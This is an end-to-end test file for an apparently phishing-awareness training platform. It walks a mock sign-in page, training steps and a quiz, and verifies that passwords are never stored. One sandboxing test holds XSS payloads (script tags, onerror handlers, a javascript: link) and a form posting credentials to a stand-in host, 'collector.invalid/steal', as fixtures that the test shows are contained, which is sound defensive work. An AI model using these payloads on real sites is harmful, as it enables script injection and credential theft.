import { randomBytes } from 'node:crypto';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_PUBLIC_SITE } from '@shared/campaign';
import { MINIMAL_CAMPAIGN, seedCampaign } from '@server/test/campaign-fixtures';
import { demoCampaign } from '@server/modules/demo/demo-campaign';
import { browserAvailable, launchBrowser, newContext } from './support/browser';
import {
  dumpDatabase,
  eventsOf,
  expectAxeClean,
  expectNoHorizontalScroll,
  recipientByRid,
  recordRequests,
} from './support/journey';
import { startTestServer, type TestServer } from './support/server';

const heading = (page: Page) => page.locator('h1').first().innerText();
const pathOf = (page: Page) => new URL(page.url()).pathname;

/** The redirect target is answered locally: the test needs no external network. */
async function interceptRedirect(page: Page, url = DEFAULT_PUBLIC_SITE) {
  await page.route(`${url}**`, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<title>Back home</title><h1>Back home</h1>' }),
  );
}

describe.runIf(browserAvailable)('recipient journey in Chromium', () => {
  let server: TestServer;
  let browser: Browser;

  beforeAll(async () => {
    server = await startTestServer();
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  it('walks the demo campaign through every step to completion and the redirect, at 360 px', async () => {
    const secret = `Pw-${randomBytes(9).toString('hex')}!`;
    const rid = server.demo.recipients[0]!.rid;
    const recipient = await recipientByRid(server.database, rid);
    const context = await newContext(browser, { width: 360 });
    const page = await context.newPage();
    const requests = recordRequests(page);
    await interceptRedirect(page);

    await page.goto(`${server.url}/phish?rid=${rid}`);
    await expect.poll(() => heading(page)).toBe('Sign in');
    await expect.poll(() => page.locator('.signin__subtitle').innerText()).toContain('Northwind Docs');
    await expectAxeClean(page, 'template');
    await expectNoHorizontalScroll(page, 'template');
    // Keyboard only: type, then Enter submits.
    await page.getByLabel('Email or username').fill('alex.morgan');
    await page.getByLabel('Password').fill(secret);
    await page.getByLabel('Password').press('Enter');

    await expect.poll(() => pathOf(page)).toBe('/phish/awareness');
    expect(new URL(page.url()).searchParams.get('rid')).toBe(rid);
    await expect.poll(() => heading(page)).toBe('You opened a simulated phishing link');
    expect(await page.locator('.journey-prose strong').innerText()).toBe('training exercise');
    expect(await page.locator('.journey-progress__count').innerText()).toBe('Step 1 of 6');
    await expectAxeClean(page, 'awareness');
    await expectNoHorizontalScroll(page, 'awareness');
    await page.getByRole('button', { name: 'Continue' }).click();

    await expect.poll(() => pathOf(page)).toBe('/phish/pdf');
    await expect.poll(() => heading(page)).toBe('Spotting phishing in 60 seconds');
    // At 360 px a card to open or download, not a frame phones rarely show.
    expect(await page.locator('iframe.pdf-frame').count()).toBe(0);
    expect(await page.locator('.pdf-card__title').innerText()).toBe('Spotting phishing in 60 seconds');
    // How long and how big, since a phone shows the card instead of the document.
    expect(await page.locator('.pdf-card__facts').innerText()).toBe('Pages: 1 · 1.8 kB');
    const pdfSrc = await page.getByRole('link', { name: 'Download the PDF' }).getAttribute('href');
    expect(pdfSrc).toBe(`${server.url}/assets/demo/training.pdf`);
    expect(await page.getByRole('link', { name: 'Open the PDF' }).getAttribute('href')).toBe(
      `${pdfSrc}#view=FitH&pagemode=none`,
    );
    const pdf = await fetch(pdfSrc!);
    expect(pdf.headers.get('content-type')).toBe('application/pdf');
    expect(pdf.headers.get('content-security-policy')).toBe("frame-ancestors 'self'");
    expect(
      Buffer.from(await pdf.arrayBuffer())
        .subarray(0, 5)
        .toString(),
    ).toBe('%PDF-');
    await expectAxeClean(page, 'pdf');
    await expectNoHorizontalScroll(page, 'pdf');
    await page.getByRole('button', { name: 'Continue' }).click();

    await expect.poll(() => pathOf(page)).toBe('/phish/sei');
    await expect.poll(() => heading(page)).toBe('The red flags you could have spotted');
    expect(await page.locator('.mock-email .mock-email__flagged').count()).toBe(3);
    expect(await page.locator('.sei-item__title').allInnerTexts()).toEqual([
      'Look-alike sender domain',
      'Artificial urgency',
      'Link to an unknown site',
    ]);
    expect(await page.locator('.sei-general').innerText()).toContain('When in doubt');
    await expectAxeClean(page, 'sei');
    await expectNoHorizontalScroll(page, 'sei');
    await page.getByRole('button', { name: 'Continue' }).click();

    await expect.poll(() => pathOf(page)).toBe('/phish/entry_text');
    expect(await page.locator('.journey-prose').innerText()).toContain('Three short questions');
    await expectAxeClean(page, 'entry_text');
    await page.getByRole('button', { name: 'Start' }).click();

    await expect.poll(() => pathOf(page)).toBe('/phish/questionnaire');
    await expect.poll(() => page.locator('.question-progress').innerText()).toBe('Question 1 of 3');
    // Required: no skipping, and Next waits for an answer.
    expect(await page.getByRole('button', { name: 'Skip the questions' }).count()).toBe(0);
    expect(await page.getByRole('button', { name: 'Next question' }).isDisabled()).toBe(true);
    await expectAxeClean(page, 'questionnaire');
    await page.getByLabel('The sender’s domain').check();
    await page.getByRole('button', { name: 'Next question' }).click();
    await page.getByLabel('An urgent deadline').check();
    await page.getByLabel('A request for your password').check();
    await page.getByRole('button', { name: 'Next question' }).click();
    await page.getByLabel('Report it to the security team').check();
    await page.getByRole('button', { name: 'Submit answers' }).click();
    await expect.poll(() => page.locator('.result__score').innerText()).toBe('100%');
    expect(await page.locator('.result__item.is-correct').count()).toBe(3);
    await expectAxeClean(page, 'questionnaire result');
    await page.getByRole('button', { name: 'Continue' }).click();

    await expect.poll(() => pathOf(page)).toBe('/campaign/campaign-completed');
    await expect.poll(() => heading(page)).toBe('Thank you');
    await expect.poll(() => page.locator('.stats').innerText()).toContain('90 of 90');
    expect(await page.locator('.stats').innerText()).toContain('100%');
    expect(await page.locator('.badge').innerText()).toContain('Sharp eye');
    expect(await page.locator('[role=timer]').innerText()).toMatch(/returned automatically in \d+ seconds/);
    await expectAxeClean(page, 'completed');
    await expectNoHorizontalScroll(page, 'completed');
    await expect.poll(async () => (await recipientByRid(server.database, rid)).status).toBe('completed');
    await page.getByRole('link', { name: 'Return now' }).click();
    await expect.poll(() => page.url()).toBe(DEFAULT_PUBLIC_SITE);

    const events = await eventsOf(server.database, recipient.id);
    expect(events.map((e) => e.type).sort()).toEqual(
      [
        'visited',
        'clicked',
        'submitted',
        'awareness_viewed',
        'pdf_viewed',
        'sei_viewed',
        'questionnaire_completed',
        'completed',
      ].sort(),
    );
    const submitted = events.find((e) => e.type === 'submitted');
    expect(JSON.parse(submitted!.details)).toEqual({ fields: ['username', 'password'] });
    const clicked = events.find((e) => e.type === 'clicked');
    // Whichever came first: the render beacon (while axe ran) or typing into the form.
    expect(JSON.parse(clicked!.details)).toMatchObject({
      reason: expect.stringMatching(/^(render_beacon|user_gesture)$/),
      elapsed_ms: expect.any(Number),
      since_link_created_ms: expect.any(Number),
      page: 'builtin',
    });
    expect(clicked!.user_agent).toMatch(/Chrome/);
    expect(clicked!.ip).toBe('127.0.0.0');
    // Campaign data was fetched once for the whole journey.
    expect(requests.filter((r) => r.url.includes('/api/campaign/')).length).toBe(1);

    // The typed password went nowhere: no request, no log line, no database row.
    expect(requests.filter((r) => r.body.includes(secret) || r.url.includes(secret))).toEqual([]);
    expect(requests.some((r) => r.body.includes('"fields":["username","password"]'))).toBe(true);
    expect(server.logs.filter((line) => line.includes(secret))).toEqual([]);
    expect(server.logs.length).toBeGreaterThan(5);
    const dump = await dumpDatabase(server.database);
    expect(dump).toContain(JSON.stringify(JSON.stringify({ fields: ['username', 'password'] })).slice(1, -1));
    expect(dump).not.toContain(secret);
    await context.close();
  });

  it('records only visited for a scanner-style GET, and clicked once the page really runs', async () => {
    const rid = server.demo.recipients[1]!.rid;
    const recipient = await recipientByRid(server.database, rid);
    const res = await fetch(`${server.url}/phish?rid=${rid}`, {
      headers: { 'user-agent': 'MailScanner/1.0' },
    });
    expect(res.status).toBe(200);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    const afterScan = await eventsOf(server.database, recipient.id);
    expect(afterScan.map((e) => e.type)).toEqual(['visited']);
    expect(afterScan[0]!.user_agent).toBe('MailScanner/1.0');
    expect((await recipientByRid(server.database, rid)).status).toBe('visited');

    // A real browser that renders the page, without any gesture: the render beacon, once the page
    // was visible for 5 s. The page's report is kept, but automation (navigator.webdriver is true
    // under playwright) is no person: it is not counted (e2e/clicks.test.ts has the whole corpus).
    const context = await newContext(browser);
    const page = await context.newPage();
    await page.goto(`${server.url}/phish?rid=${rid}`);
    await expect
      .poll(async () => (await eventsOf(server.database, recipient.id)).map((e) => e.type).sort(), {
        timeout: 10_000,
      })
      .toEqual(['clicked', 'visited']);
    const clicked = (await eventsOf(server.database, recipient.id)).find((e) => e.type === 'clicked');
    expect(JSON.parse(clicked!.details)).toMatchObject({ reason: 'render_beacon', page: 'builtin' });
    expect(clicked!.user_agent).toMatch(/Chrome/);
    expect(await recipientByRid(server.database, rid)).toMatchObject({
      status: 'visited',
      verdict: 'automated',
    });
    await context.close();
  });

  it('sandboxes the template page, keeps awareness script inert, and intercepts template forms', async () => {
    const secret = `Tpl-${randomBytes(9).toString('hex')}`;
    const template =
      '<!doctype html><html lang="en"><head><title>Contoso portal</title></head><body>' +
      '<script>document.body.setAttribute("data-ran", "yes");' +
      'try { parent.__pwned = "template-script"; } catch (e) {}' +
      'try { top.document.title = "pwned"; } catch (e) {}' +
      'try { localStorage.setItem("x", "1"); } catch (e) {}' +
      'alert("template");</script>' +
      '<img src="x" alt="" onerror="try { parent.__pwned = \'template-onerror\' } catch (e) {}; alert(2)">' +
      '<form action="https://collector.invalid/steal" method="post">' +
      '<label>User <input name="user"></label><label>Pass <input type="password" name="pass"></label>' +
      '<button type="submit">Go</button></form></body></html>';
    const { recipients } = await seedCampaign(server.database.db, {
      ...MINIMAL_CAMPAIGN,
      phishing: { template_html: template },
      awareness: {
        typeHtml: true,
        content:
          '<p>Safe text</p><img src="x" onerror="window.__pwned=\'awareness\';alert(3)">' +
          '<script>window.__pwned="awareness-script"</script><a href="javascript:window.__pwned=1">x</a>',
      },
      navigation: ['awareness'],
    });
    const rid = recipients[0]!.rid;
    const context = await newContext(browser);
    const page = await context.newPage();
    const requests = recordRequests(page);
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });

    // The template is the page itself, top-level, under a sandboxing policy (an opaque origin).
    const response = await page.goto(`${server.url}/phish?rid=${rid}`);
    expect(response?.headers()['content-security-policy']).toContain('sandbox allow-scripts allow-forms');
    expect(response?.headers()['content-security-policy']).not.toContain('allow-same-origin');
    // The template's own script did run — inside its sandbox, where it can reach nothing of ours.
    await expect.poll(() => page.locator('body').getAttribute('data-ran')).toBe('yes');
    // Its `top` is itself now (no frame): what it changes there is only its own document.
    expect(await page.evaluate(() => document.title)).toBe('pwned');
    // (No axe check here: the page is the operator's own markup now, not the app's.)
    await page.getByLabel('User').fill('pat');
    await page.getByLabel('Pass').fill(secret);
    await page.getByRole('button', { name: 'Go' }).click();

    await expect.poll(() => pathOf(page)).toBe('/phish/awareness');
    // Operator ids are dropped (no DOM clobbering), so the paragraph is found by its text.
    await expect.poll(() => page.locator('.journey-prose p').first().textContent()).toBe('Safe text');
    await expectAxeClean(page, 'awareness with operator HTML');
    const prose = await page.locator('.journey-prose').innerHTML();
    expect(prose).not.toMatch(/onerror|<script|javascript:/);
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(await page.evaluate(() => localStorage.getItem('x'))).toBeNull();
    expect(dialogs).toEqual([]);
    expect(requests.filter((r) => r.url.includes('collector.invalid'))).toEqual([]);
    expect(requests.filter((r) => r.body.includes(secret) || r.url.includes(secret))).toEqual([]);

    const recipient = await recipientByRid(server.database, rid);
    const submitted = (await eventsOf(server.database, recipient.id)).find((e) => e.type === 'submitted');
    expect(JSON.parse(submitted!.details)).toEqual({ fields: ['user', 'pass'] });
    expect(await dumpDatabase(server.database)).not.toContain(secret);
    expect(server.logs.filter((line) => line.includes(secret))).toEqual([]);
    await context.close();
  });

  it('numbers each red flag on the part of the email it points at, at 360 px', async () => {
    const context = await newContext(browser, { width: 360 });
    const page = await context.newPage();
    await page.goto(`${server.url}/phish/sei?rid=${server.demo.recipients[0]!.rid}`);
    const flagged = page.locator('.mock-email .mock-email__flagged');
    await expect.poll(() => flagged.count()).toBe(3);
    const flags = await flagged.evaluateAll((elements) =>
      elements.map((e) => ({
        badge: e.querySelector('.mock-email__badge')?.getAttribute('data-number'),
        text: e.textContent,
      })),
    );
    expect(flags[0]).toMatchObject({
      badge: '1',
      text: expect.stringContaining('no-reply@northwind-docs-share.com'),
    });
    expect(flags[1]).toMatchObject({ badge: '2', text: expect.stringContaining('URGENT') });
    expect(flags[2]).toEqual({ badge: '3', text: 'https://northwind-docs-share.com/view' });
    // The email text itself is unchanged by the marking (the numbers are drawn, not text).
    expect(await page.locator('.mock-email__body').textContent()).toBe(
      'Hello,\n\nA confidential payroll document has been shared with you. Your access expires today at 5 PM.\n\nOpen the document: https://northwind-docs-share.com/view\n\nNorthwind Docs Team',
    );
    await expectNoHorizontalScroll(page, 'sei at 360 px');
    await context.close();
  });

  it('shows the e-mail on the red-flags page as the recipient received it: variables filled, never raw', async () => {
    const file = demoCampaign(server.url);
    const { recipients } = await seedCampaign(
      server.database.db,
      {
        ...file,
        email: {
          from: 'Lohnbuchhaltung <payroll@northwind-docs-share.com>',
          subject: 'Hallo {{ first_name }}, Ihre Abrechnung',
          body: 'Hallo {{first_name}},\n\nAbrechnung ansehen: {{link}}\n\nGesendet an {{email}}',
        },
      },
      { recipients: [{ email: 'jana.schmidt@example.com', first_name: 'Jana <b>' }] },
    );
    const rid = recipients[0]!.rid;
    const context = await newContext(browser);
    const page = await context.newPage();
    await page.goto(`${server.url}/phish/sei?rid=${rid}`);
    const body = page.locator('.mock-email__body');
    await expect.poll(() => body.textContent()).toContain('Hallo Jana <b>,');
    // The link as the e-mail carried it: the public listener's (PUBLIC_URL) /phish with this rid.
    expect(await body.textContent()).toMatch(
      new RegExp(
        `^Hallo Jana <b>,\\n\\nAbrechnung ansehen: https?://[^ ]+/phish\\?rid=${rid}\\n\\nGesendet an jana\\.schmidt@example\\.com$`,
      ),
    );
    expect(await page.locator('.mock-email').innerText()).toContain('Hallo Jana <b>, Ihre Abrechnung');
    // Filled as text: the name's markup is shown, never run or drawn.
    expect(await page.locator('.mock-email b').count()).toBe(0);
    expect(await page.locator('body').innerText()).not.toContain('{{');
    await context.close();
  });

  it('sends an unknown, malformed or missing rid to campaign-error, axe clean', async () => {
    const context = await newContext(browser);
    const page = await context.newPage();
    for (const url of [
      `/phish?rid=${'A'.repeat(32)}`,
      '/phish/sei?rid=bad',
      '/phish',
      `/campaign/campaign-completed?rid=${'B'.repeat(32)}`,
    ]) {
      await page.goto(`${server.url}${url}`);
      await expect.poll(() => pathOf(page), { message: url }).toBe('/campaign/campaign-error');
      await expect.poll(() => heading(page)).toBe('This link is not available');
      const text = (await page.locator('body').innerText()).toLowerCase();
      for (const word of ['phish', 'simulat', 'hookwise', 'campaign']) expect(text, url).not.toContain(word);
    }
    await expectAxeClean(page, 'campaign-error');
    await context.close();
  });

  it('renders right-to-left in the recipient’s language', async () => {
    const rid = server.demo.recipients[2]!.rid;
    const context = await newContext(browser, { width: 360 });
    const page = await context.newPage();
    await page.goto(`${server.url}/phish/awareness?rid=${rid}`);
    await expect.poll(() => page.evaluate(() => document.documentElement.dir)).toBe('rtl');
    expect(await page.evaluate(() => document.documentElement.lang)).toBe('ar');
    await expect.poll(() => page.locator('h1').count()).toBeGreaterThan(0);
    await expectAxeClean(page, 'awareness rtl');
    await expectNoHorizontalScroll(page, 'awareness rtl');
    await context.close();
  });

  it('counts down to default_url, and the countdown can be paused', async () => {
    const { recipients } = await seedCampaign(server.database.db, {
      ...MINIMAL_CAMPAIGN,
      redirect_url: 'https://intranet.example/after',
    });
    const context = await newContext(browser);
    const page = await context.newPage();
    await interceptRedirect(page, 'https://intranet.example/after');
    await page.clock.install();
    await page.goto(`${server.url}/campaign/campaign-completed?rid=${recipients[0]!.rid}`);
    await expect.poll(() => page.locator('[role=timer]').innerText()).toContain('15 seconds');
    await page.getByRole('button', { name: 'Pause' }).click();
    await page.clock.runFor(30_000);
    expect(pathOf(page)).toBe('/campaign/campaign-completed');
    await page.getByRole('button', { name: 'Resume' }).click();
    await page.clock.runFor(16_000);
    await expect.poll(() => page.url()).toBe('https://intranet.example/after');
    await context.close();
  });

  it('sends a recipient who skips a required questionnaire back to it', async () => {
    const rid = (
      await seedCampaign(server.database.db, demoCampaign(server.url), {
        recipients: [{ email: 'skip@example.com' }],
      })
    ).recipients[0]!.rid;
    const context = await newContext(browser);
    const page = await context.newPage();
    await page.goto(`${server.url}/campaign/campaign-completed?rid=${rid}`);
    await expect.poll(() => pathOf(page)).toBe('/phish/questionnaire');
    await context.close();
  });
});
